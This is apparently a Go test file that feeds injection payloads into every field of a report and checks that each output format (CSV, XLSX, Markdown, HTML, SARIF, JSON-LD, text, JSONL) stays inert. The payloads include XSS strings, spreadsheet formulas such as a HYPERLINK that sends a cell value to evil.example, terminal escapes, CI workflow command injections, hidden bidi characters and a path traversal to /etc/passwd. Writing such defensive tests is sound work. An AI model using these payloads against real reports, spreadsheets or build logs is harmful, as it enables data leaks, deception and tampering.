package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// payloads are what somebody may write into a text, a name, a title, a path or
// an error so that a report does more than be read.
var payloads = []string{
	"<script>alert(1)</script>",
	`<img src=x onerror="alert(1)">`,
	"</code></pre><b onclick=alert(1)>",
	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
	"+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "x;=1+1", `x; "=1+1`,
	"\x1b[2J\x1b]0;owned\a", "\u009b31m", "\x00\x7f",
	"::error file=a.go,line=1::owned", "\n::add-mask::x", "x\n  ::stop-commands::token", "a::\xff", "\xff::\xc3(", "##[error]owned", "a ##vso[task.setvariable variable=x]y",
	"[click](http://evil.example)", "![x](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example/a", "www.evil.example",
	"@everyone #1 evil/repo#2", "`code` ``more``", "| a | b |", "{0} {1}", "[x](1)", `back\slash\`, "*bold* _it_ ~~gone~~ $x$",
	"12\u202e43", "\u2066isolate\u2069", "1\u200b2", "\ufeffmark", "soft\u00adhyphen", "tag\U000E0041", "line\u2028break\u2029",
	"a\nerror: contradiction in money  #9  00c0ffee00c0ffee", "a\u0085error: contradiction in money",
	"javascript:alert(1)", "//evil.example/x", "../../etc/passwd", "C:\\x",
}

// A field is a string of a line that others fill: from a document, its name, an
// error, or by editing a stored run.
type field struct {
	path string
	set  func(string)
}

// fieldsOf returns the strings of a line, also those of fields that are added
// later. What is empty is made first. [Read] refuses another type, verdict,
// severity, baseline or schema, so that these are no way in.
func fieldsOf(l Line) []field {
	var list []field
	var walk func(path string, v reflect.Value)
	walk = func(path string, v reflect.Value) {
		switch v.Kind() {
		case reflect.String:
			list = append(list, field{path, v.SetString})
		case reflect.Pointer:
			if v.IsNil() {
				v.Set(reflect.New(v.Type().Elem()))
			}
			walk(path, v.Elem())
		case reflect.Struct:
			for i := range v.NumField() {
				name := v.Type().Field(i).Name
				if !slices.Contains([]string{"Type", "Verdict", "Severity", "Baseline", "Schema"}, name) {
					walk(path+"."+name, v.Field(i))
				}
			}
		case reflect.Slice:
			if v.Type() == reflect.TypeFor[json.RawMessage]() {
				list = append(list, field{path, func(s string) {
					b, _ := json.Marshal(s)
					v.SetBytes(b)
				}})
				return
			}
			if v.Len() == 0 {
				v.Set(reflect.MakeSlice(v.Type(), 1, 1))
			}
			for i := range v.Len() {
				walk(path, v.Index(i))
			}
		case reflect.Map: // of counts
			list = append(list, field{path, func(s string) {
				v.Set(reflect.MakeMap(v.Type()))
				v.SetMapIndex(reflect.ValueOf(s), reflect.ValueOf(1))
			}})
		}
	}
	walk(reflect.TypeOf(l).Elem().Name(), reflect.ValueOf(l).Elem())
	return list
}

// vessel returns a run whose fields are all there, and its fields.
func vessel() ([]Line, []field) {
	run := []Line{
		&Run{Type: "run", Schema: SchemaVersion},
		&Finding{Type: "finding", ID: "00c0ffee00c0ffee", Kind: "count", Verdict: "contradiction", Severity: "error", Confidence: 0.9, Places: 2},
		&Failure{Type: "error", Error: "encrypted"},
		&Summary{Type: "summary", Documents: 2, Findings: Verdicts{Contradiction: 1}, Errors: 1},
	}
	var all []field
	for _, l := range run {
		all = append(all, fieldsOf(l)...)
	}
	f := run[1].(*Finding)
	for _, s := range []*Side{&f.Left, f.Right, &f.More[0].Left, f.More[0].Right} {
		s.Line, s.Location.Page = 3, 2
	}
	return run, all
}

// stored returns a run as it is read back from JSON Lines.
func stored(t *testing.T, run []Line) []Line {
	t.Helper()
	var list []Line
	for l, err := range Read(strings.NewReader(written(t, "jsonl", run))) {
		require.NoError(t, err)
		list = append(list, l)
	}
	return list
}

// poisoned returns a stored run with a payload in every field that others fill.
func poisoned(t *testing.T, p string) []Line {
	t.Helper()
	run, fields := vessel()
	for _, f := range fields {
		f.set(p)
	}
	p = strings.ToValidUTF8(p, "\ufffd") // as every text is
	for _, s := range []*Side{&run[1].(*Finding).Left, run[1].(*Finding).Right} {
		s.Sentence, s.Start, s.End = p+" left "+p, len(p)+6, 2*len(p)+6
	}
	return stored(t, run)
}

// written returns a run in a format.
func written(t *testing.T, format string, run []Line) string {
	t.Helper()
	var b bytes.Buffer
	w, err := New(format, &b, TextOptions{})
	require.NoError(t, err)
	for _, l := range run {
		require.NoError(t, w.Write(l))
	}
	require.NoError(t, w.Close())
	return b.String()
}

// shown returns what a format says: of a workbook, what its parts hold.
func shown(t *testing.T, format string, run []Line) string {
	t.Helper()
	got := written(t, format, run)
	if format != "xlsx" {
		return got
	}
	list := parts(t, got)
	var all strings.Builder
	for _, name := range slices.Sorted(maps.Keys(list)) {
		all.WriteString(list[name])
	}
	return all.String()
}

// command is what runners of workflows take for a command in a line of a log.
var command = regexp.MustCompile(`(?m)^\s*::|##\[|##vso\[`)

// inert are what holds of a format whatever stands in a document, its name or an
// error. Every format has a rule here.
var inert = map[string]func(t *testing.T, why, got string){
	"text":   inertText,
	"jsonl":  inertJSON,
	"csv":    inertCells,
	"facts":  inertCells,
	"xlsx":   inertWorkbook,
	"md":     inertMarkdown,
	"html":   inertHTML,
	"sarif":  inertSARIF,
	"jsonld": inertAnnotations,
}

// Whatever stands in any field, no format lets it act: not on a terminal, on the
// order of a text or on a program that reads a log, and not on what the format
// is made for.
func TestPayloads(t *testing.T) {
	for _, format := range Formats() {
		require.Contains(t, inert, format, "a format needs a rule that says when it is inert")
		t.Run(format, func(t *testing.T) {
			for _, p := range payloads {
				checkInert(t, format, fmt.Sprintf("%q", p), poisoned(t, p))
			}
		})
	}
}

// The same of one field at a time, so that nothing hides behind another, and
// that is found which needs words before it.
func TestPayloadsByField(t *testing.T) {
	const tail = "\x1b]0;x\a \u202e <img src=x onerror=alert(1)> [a](http://evil.example) @team `x` {0} ##[error] ;=1+1 \n::error::x"
	_, fields := vessel()
	for i := range fields {
		for _, p := range []string{"=1+1" + tail, "::error::x" + tail, "<script>alert(1)</script>" + tail} {
			run, fields := vessel()
			fields[i].set(p)
			if !strings.Contains(fields[i].path, "Ignored") {
				run[1].(*Finding).Ignored = nil // which would hide other states
			}
			run = stored(t, run)
			for _, format := range Formats() {
				checkInert(t, format, fields[i].path+": "+p, run)
			}
		}
	}
}

// checkInert checks what holds of all formats, and the rule of one.
func checkInert(t *testing.T, format, why string, run []Line) {
	t.Helper()
	got := strings.ReplaceAll(shown(t, format, run), "\r\n", "\n")
	for _, r := range got {
		if invisible(r) && r != '\n' {
			t.Errorf("%s: %s holds %U", format, why, r)
			break
		}
	}
	assert.NotRegexp(t, command, got, "%s: %s", format, why)
	inert[format](t, why, written(t, format, run))
}

// No words pass for a finding.
func inertText(t *testing.T, why, got string) {
	assert.NotRegexp(t, `(?m)^(error|warning|note): contradiction in money`, got, why)
}

// Each line is one object, whose strings are what was given.
func inertJSON(t *testing.T, why, got string) {
	for line := range strings.Lines(got) {
		assert.True(t, json.Valid([]byte(line)), "%s: %s", why, line)
	}
}

var formula = regexp.MustCompile(`^[\s"]*[=+\-@＝＋－＠]`)

// A cell is a formula where it begins like one, in a spreadsheet that parts
// cells at commas or at semicolons.
func inertCells(t *testing.T, why, got string) {
	for _, comma := range []rune{',', ';'} {
		in := csv.NewReader(strings.NewReader(got))
		in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
		rows, err := in.ReadAll()
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				assert.NotRegexp(t, formula, cell, "%s, cells parted by %q", why, comma)
			}
		}
	}
}

var acting = regexp.MustCompile(`<f[ >]|<hyperlink|TargetMode|ddeLink|oleLink|<definedName [^>]*>[^<]*[(]`)

// No cell, header or name is more than text: a workbook holds no formula, link,
// macro or reference to anything outside of it.
func inertWorkbook(t *testing.T, why, got string) {
	for name, part := range parts(t, got) {
		assert.Regexp(t, `^(\[Content_Types\]\.xml|_rels/\.rels|xl/(workbook|styles|worksheets/sheet[1-4])\.xml|xl/_rels/workbook\.xml\.rels)$`, name)
		assert.NotRegexp(t, acting, part, "%s in %s", why, name)
	}
}

var (
	fenced  = regexp.MustCompile("(?:^|[^`])(`+)(?:[^`]|$)")
	escaped = regexp.MustCompile(`\\.`)
	markup  = regexp.MustCompile(`[<>\[\]@|{}$]|http:|www\.|javascript:|evil/|#1`)
)

// Outside code spans a comment holds words of the program alone.
func inertMarkdown(t *testing.T, why, got string) {
	for line := range strings.Lines(got) {
		var outside strings.Builder
		for rest := line; ; {
			at := fenced.FindStringSubmatchIndex(rest)
			if at == nil {
				outside.WriteString(rest)
				break
			}
			fence := rest[at[2]:at[3]]
			outside.WriteString(rest[:at[2]])
			end := regexp.MustCompile("[^`](" + fence + ")(?:[^`]|$)").FindStringSubmatchIndex(rest[at[3]:])
			require.NotNil(t, end, "%s: a code span ends where it begins: %s", why, line)
			rest = rest[at[3]+end[3]:]
		}
		assert.NotRegexp(t, markup, escaped.ReplaceAllString(outside.String(), ""), "%s: %s", why, line)
	}
}

var (
	link        = regexp.MustCompile(`(?:^|[^\\])(?:\\\\)*\[`)
	placeholder = regexp.MustCompile(`(?:^|[^{])(?:\{\{)*\{[0-9]`)
	otherScheme = regexp.MustCompile(`^(?:[a-z]+:|//|\\)`)
)

// A message in SARIF has one link, which the program has put there, and no
// placeholder. A reference to a source is never an address of another scheme.
func inertSARIF(t *testing.T, why, got string) {
	var log sarifLog
	require.NoError(t, json.Unmarshal([]byte(got), &log))
	result := log.Runs[0].Results[0]
	assert.Len(t, link.FindAllString(result.Message.Text, -1), 1, "%s: %s", why, result.Message.Text)
	messages := []string{result.Message.Text}
	for _, l := range append(result.Related, result.Locations...) {
		uri := l.Physical.Artifact.URI
		assert.NotRegexp(t, otherScheme, strings.TrimPrefix(strings.TrimPrefix(uri, "file://"), "http://evil.example"), why)
		if l.Message != nil {
			assert.Empty(t, link.FindAllString(l.Message.Text, -1), why)
			messages = append(messages, l.Message.Text)
		}
	}
	for _, n := range log.Runs[0].Invocations[0].Notifications {
		messages = append(messages, n.Message.Text)
	}
	for _, m := range messages {
		assert.NotRegexp(t, placeholder, m, why)
	}
}

// Annotations carry plain text, and quote a document exactly.
func inertAnnotations(t *testing.T, why, got string) {
	var all annotationCollection
	require.NoError(t, json.Unmarshal([]byte(got), &all))
	require.Len(t, all.First.Items, 1)
	for _, body := range all.First.Items[0].Body {
		assert.Equal(t, "text/plain", body.Format)
		assert.Equal(t, Visible(body.Value), body.Value, why)
	}
	for _, target := range all.First.Items[0].Target {
		assert.NotRegexp(t, otherScheme, strings.TrimPrefix(strings.TrimPrefix(target.Source, "file://"), "http://evil.example"), why)
	}
}

// An annotation quotes exactly, so that the words are found.
func TestPayloadsAreQuotedExactly(t *testing.T) {
	for _, p := range payloads {
		var all annotationCollection
		require.NoError(t, json.Unmarshal([]byte(written(t, "jsonld", poisoned(t, p))), &all))
		for _, target := range all.First.Items[0].Target[:2] {
			assert.Equal(t, strings.ToValidUTF8(p, "\ufffd"), target.Selector[0].(map[string]any)["exact"])
		}
	}
}

// A word without end breaks no limit, and no report.
func TestPayloadsWithoutEnd(t *testing.T) {
	run := poisoned(t, strings.Repeat("\u0301x\u202e", 4_000))
	for _, format := range Formats() {
		got := written(t, format, run)
		switch format {
		case "md":
			assert.LessOrEqual(t, len(got), maxComment)
		case "xlsx":
			for _, row := range cells(t, workbook(t, got), "findings") {
				for _, cell := range row {
					assert.LessOrEqual(t, len(utf16.Encode([]rune(cell))), xlsxChars)
				}
			}
		default:
			assert.Greater(t, len(got), 40_000, "%s leaves nothing out", format)
		}
	}
}
